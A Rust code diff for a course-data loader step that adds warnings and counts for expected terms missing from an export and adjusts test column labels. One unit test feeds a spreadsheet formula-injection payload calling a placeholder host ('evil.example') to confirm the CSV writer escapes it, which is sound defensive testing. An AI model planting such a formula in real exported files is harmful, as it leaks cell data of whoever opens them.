@@ -18,7 +18,7 @@ use crate::alma::CourseCache;
 use crate::domain::delta::{self, Changed, Load, LoadKind};
 use crate::domain::loader::loader_file_name;
 use crate::domain::run::{write_course_rows, Scan};
-use crate::domain::{scan, RowReject, Rules, RunSummary};
+use crate::domain::{scan, RowReject, Rules, RunSummary, TermMissing};
 use crate::pipeline;
 use crate::run::alma_rate::AlmaCaller;
 use crate::run::baseline::{self, LoadPlan};
@@ -157,7 +157,9 @@ pub async fn run(
     let made_at = ctx.now();
     let checked_at = checks_made_at(&cache, made_at);
     let local = made_at.with_timezone(&ctx.config.time_zone);
-    let mut output = transform_output(ctx, &input.run, &day, &pass, load, &local).await?;
+    let missing = terms_missing(&rules, input.run.run_date, &pass.summary);
+    let mut output =
+        transform_output(ctx, &input.run, &day, &pass, load, &local, &missing).await?;
     output.rules = Some(rules_version);
     let document = SummaryDocument {
         output: &output,
@@ -285,8 +287,19 @@ fn checks_made_at(cache: &CourseCache, made_at: DateTime<Utc>) -> DateTime<Utc> 
         .map_or(made_at, |oldest| oldest.min(made_at))
 }
 
+/// The expected terms starting soon that the export holds no row of (§9), each logged: a
+/// warning, never a reason to stop.
+fn terms_missing(rules: &Rules, run_date: NaiveDate, summary: &RunSummary) -> Vec<TermMissing> {
+    let missing = rules.export().terms_missing(run_date, &summary.terms_seen);
+    for m in &missing {
+        tracing::warn!(term = %m.term, year = %m.year, starts = %m.starts, "{m}");
+    }
+    missing
+}
+
 /// The step's output: the loader file named `local` (now in the library's time zone), the
-/// copy years to cache, the day's warnings and counts, and the brake's verdict.
+/// copy years to cache, the day's warnings (the terms missing first) and counts, and the
+/// brake's verdict.
 async fn transform_output(
     ctx: &StepContext,
     run: &RunInfo,
@@ -294,14 +307,18 @@ async fn transform_output(
     pass: &LoaderPass,
     load: Load,
     local: &DateTime<Tz>,
+    missing: &[TermMissing],
 ) -> Result<TransformOutput, StepError> {
     let (years_needed, far_years) =
         nearest_years(&pass.years_needed, run.run_date.year(), limits::YEARS);
     let loader_file_name = loader_file_name(local);
     let loader_key = format!("{}{loader_file_name}", day.alma_prefix());
     debug_assert_eq!(loader_key, day.alma_loader_file(local.naive_local()));
-    let warnings = day_warnings(&far_years, &pass.odd_years, &pass.summary);
-    let counts = TransformCounts::from_summary(&pass.summary);
+    let warnings = day_warnings(missing, &far_years, &pass.odd_years, &pass.summary);
+    let counts = TransformCounts {
+        terms_missing: missing.len() as u64,
+        ..TransformCounts::from_summary(&pass.summary)
+    };
     let brake = brake::assess(&ctx.store, run.run_date, &counts, &ctx.config.brake).await?;
     Ok(TransformOutput {
         loader_key,
@@ -318,9 +335,15 @@ async fn transform_output(
 }
 
 /// The day's own notes first: they are few, and a day of many row warnings would push
-/// them past the cap.
-fn day_warnings(far_years: &[i32], odd_years: &[String], summary: &RunSummary) -> Vec<String> {
-    let mut warnings = Vec::new();
+/// them past the cap. The terms missing lead: the day's account reads them from there
+/// (`counts.terms_missing` of them).
+fn day_warnings(
+    missing: &[TermMissing],
+    far_years: &[i32],
+    odd_years: &[String],
+    summary: &RunSummary,
+) -> Vec<String> {
+    let mut warnings: Vec<String> = missing.iter().map(ToString::to_string).collect();
     if !far_years.is_empty() {
         // The Map caches one year per item and keeps every item's answer in the state.
         warnings.push(format!(
@@ -408,14 +431,14 @@ mod tests {
         let csv = rejects_csv(&[RowReject {
             line: 7,
             course_code: "2026Fall-X-ENG101-1".into(),
-            column: Some("SLN"),
+            column: Some("section"),
             reason: "not a number, \"x\"".into(),
         }])
         .unwrap();
         let text = String::from_utf8(csv).unwrap();
         assert_eq!(
             text,
-            "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,SLN,\"not a number, \"\"x\"\"\"\n"
+            "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,section,\"not a number, \"\"x\"\"\"\n"
         );
     }
 
@@ -424,15 +447,15 @@ mod tests {
         let csv = rejects_csv(&[RowReject {
             line: 9,
             course_code: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
-            column: Some("TERM"),
-            reason: "-empty TERM".into(),
+            column: Some("term"),
+            reason: "-empty term".into(),
         }])
         .unwrap();
         let text = String::from_utf8(csv).unwrap();
         assert_eq!(
             text,
             "line,course_code,column,reason\n\
-             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",TERM,'-empty TERM\n"
+             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",term,'-empty term\n"
         );
     }
 
